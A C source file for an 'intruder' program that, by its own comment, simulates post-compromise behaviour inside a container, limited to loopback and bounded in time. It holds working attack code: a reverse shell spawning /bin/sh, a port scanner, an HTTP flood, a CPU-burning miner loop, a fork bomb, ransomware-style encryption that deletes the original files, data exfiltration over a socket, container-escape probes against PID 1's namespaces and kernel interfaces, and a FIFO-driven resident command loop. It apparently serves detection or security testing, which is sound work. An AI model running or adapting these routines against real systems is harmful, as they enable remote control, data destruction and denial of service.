/* What intruders do once they are in, bounded in count and time; nothing leaves the loopback of the container.

   intruder mine PERCENT SECONDS          computes for so much of one core
   intruder flood PORT RATE SECONDS       asks a web server for pages, a connection each
   intruder shell PORT                    calls back, and gives whoever answers a shell
   intruder scan RATE SECONDS             tries ports
   intruder rewrite RATE SECONDS FOLDER   writes files anew under other names, and removes the old ones
   intruder exfil PORT BYTES SECONDS      sends so many bytes a second away
   intruder bomb SECONDS                  forks for as long as it is let
   intruder escape                        tries once each way out of a container
   intruder resident FIFO                 waits for such lines, and does them in a child without starting a program */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { MOST_FORKS = 4000, BLOCK = 8192 };

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static void pause_until(double when)
{
    double left = when - now();
    if (left > 0) {
        struct timespec time = {(time_t)left, (long)((left - (time_t)left) * 1e9)};
        nanosleep(&time, NULL);
    }
}

static int call(int port)
{
    int socket_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = {htonl(INADDR_LOOPBACK)}};
    if (connect(socket_, (struct sockaddr *)&to, sizeof to) == 0)
        return socket_;
    close(socket_);
    return -1;
}

static void mine(double percent, double seconds)
{
    const double period = 0.1;
    volatile uint64_t hash = 14695981039346656037u;
    double begin = now(), turn = begin;
    while (turn < begin + seconds) {
        double rest = turn + period * percent / 100;
        while (now() < rest)
            for (int i = 0; i < 20000; i++)
                hash = (hash ^ i) * 1099511628211u;
        turn += period;
        pause_until(turn);
    }
}

static void flood(int port, double rate, double seconds)
{
    static const char request[] = "GET / HTTP/1.1\r\nHost: victim\r\nConnection: close\r\n\r\n";
    char answer[4096];
    double begin = now();
    for (long i = 0; now() < begin + seconds; i++) {
        int server = call(port);
        if (server >= 0) {
            if (send(server, request, sizeof request - 1, MSG_NOSIGNAL) > 0)
                while (read(server, answer, sizeof answer) > 0)
                    ;
            close(server);
        }
        pause_until(begin + (i + 1) / rate);
    }
}

static void shell(int port)
{
    int master = call(port);
    if (master < 0)
        return;
    for (int fd = 0; fd < 3; fd++)
        dup2(master, fd);
    execl("/bin/sh", "sh", "-i", NULL);
}

static void scan(double rate, double seconds)
{
    double begin = now();
    for (long i = 0; now() < begin + seconds; i++) {
        int open = call(1 + i % 60000);
        if (open >= 0)
            close(open);
        pause_until(begin + (i + 1) / rate);
    }
}

static void rewrite_one(const char *folder, const char *name)
{
    char from[512], to[520], block[BLOCK];
    snprintf(from, sizeof from, "%s/%s", folder, name);
    snprintf(to, sizeof to, "%s.locked", from);
    int in = open(from, O_RDWR), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    ssize_t size;
    while (in >= 0 && out >= 0 && (size = read(in, block, sizeof block)) > 0) {
        for (ssize_t i = 0; i < size; i++)
            block[i] ^= 0x5a ^ i;
        if (write(out, block, size) < 0)
            break;
    }
    close(in);
    close(out);
    unlink(from);
}

static void rewrite(double rate, double seconds, const char *folder)
{
    double begin = now();
    DIR *files = opendir(folder);
    long i = 0;
    for (struct dirent *file; files && (file = readdir(files)) && now() < begin + seconds;) {
        if (file->d_name[0] == '.' || strstr(file->d_name, ".locked"))
            continue;
        rewrite_one(folder, file->d_name);
        pause_until(begin + ++i / rate);
    }
}

static void exfil(int port, double bytes, double seconds)
{
    char block[BLOCK];
    int away = call(port);
    int secrets = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    double begin = now(), size = bytes / 10 < BLOCK ? bytes / 10 : BLOCK;
    for (double sent = 0; away >= 0 && now() < begin + seconds; sent += size) {
        if (read(secrets, block, (size_t)size) < (ssize_t)size)
            lseek(secrets, 0, SEEK_SET);
        if (send(away, block, (size_t)size, MSG_NOSIGNAL) < 0)
            break;
        pause_until(begin + (sent + size) / bytes);
    }
    close(away);
}

/* Children stay until the end, so that the limit on processes is met; all of them are of one group, which ends. */
static void bomb(double seconds)
{
    double end = now() + seconds;
    setpgid(0, 0);
    for (int forks = 0; forks < MOST_FORKS && now() < end; forks++) {
        pid_t child = fork();
        if (child == 0) {
            pause_until(end);
            _exit(0);
        }
        if (child < 0)
            pause_until(now() + 0.02);
    }
    pause_until(end);
    while (waitpid(-1, NULL, WNOHANG) > 0)
        ;
}

static void escape(void)
{
    char byte = 0;
    int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
    setns(fd, CLONE_NEWNS);
    unshare(CLONE_NEWNS);
    mkdir("/tmp/host", 0700);
    mount("cgroup", "/tmp/host", "cgroup", 0, "rdma");
    /* Unlike PTRACE_ATTACH it does not stop the workload. */
    ptrace(PTRACE_SEIZE, 1, NULL, NULL);
    syscall(SYS_bpf, 0, &byte, 0);
    syscall(SYS_finit_module, fd, "", 0);
    syscall(SYS_open_by_handle_at, fd, &byte, 0);
    syscall(SYS_keyctl, 0, 0, 0, 0, 0);
    syscall(SYS_perf_event_open, &byte, 0, -1, -1, 0);
    unshare(CLONE_NEWUSER | CLONE_NEWNS);
    int pattern = open("/proc/sys/kernel/core_pattern", O_RDONLY | O_CLOEXEC);
    if (pattern >= 0 && read(pattern, &byte, 1) < 0)
        _exit(1);
}

static int act(int count, char **words)
{
    double a = count > 1 ? atof(words[1]) : 0, b = count > 2 ? atof(words[2]) : 0, c = count > 3 ? atof(words[3]) : 0;
    const char *verb = words[0];
    if (!strcmp(verb, "mine"))
        mine(a, b);
    else if (!strcmp(verb, "flood"))
        flood((int)a, b, c);
    else if (!strcmp(verb, "shell"))
        shell((int)a);
    else if (!strcmp(verb, "scan"))
        scan(a, b);
    else if (!strcmp(verb, "rewrite") && count > 3)
        rewrite(a, b, words[3]);
    else if (!strcmp(verb, "exfil"))
        exfil((int)a, b, c);
    else if (!strcmp(verb, "bomb"))
        bomb(a);
    else if (!strcmp(verb, "escape"))
        escape();
    else
        return 2;
    return 0;
}

static void reside(const char *fifo)
{
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        char line[256], *words[8], *rest = line;
        int fd = open(fifo, O_RDONLY | O_CLOEXEC), count = 0;
        if (fd < 0)
            return;
        ssize_t size = read(fd, line, sizeof line - 1);
        close(fd);
        if (size <= 0)
            continue;
        line[size] = 0;
        while (count < 8 && (words[count] = strsep(&rest, " \n")) && *words[count])
            count++;
        if (count && fork() == 0) {
            signal(SIGCHLD, SIG_DFL);
            _exit(act(count, words));
        }
    }
}

int main(int count, char **arguments)
{
    if (count < 2)
        return 2;
    signal(SIGPIPE, SIG_IGN);
    if (!strcmp(arguments[1], "resident") && count > 2)
        reside(arguments[2]);
    else
        return act(count - 1, arguments + 1);
    return 0;
}
